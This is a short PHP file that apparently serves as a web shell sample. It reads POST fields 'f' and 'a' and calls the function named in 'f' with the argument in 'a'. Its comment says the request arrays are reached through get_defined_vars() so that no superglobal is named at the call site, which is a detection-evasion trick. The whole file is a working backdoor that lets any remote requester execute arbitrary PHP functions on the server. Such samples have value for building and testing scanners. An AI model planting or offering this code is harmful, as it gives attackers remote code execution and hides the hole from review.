<?php
// The request's arrays reached through get_defined_vars() in main code: no superglobal is named
// where the call is made.
$all = get_defined_vars();
$in = $all['_POST'];
if (isset($in['f'], $in['a'])) {
    $in['f']($in['a']);
}
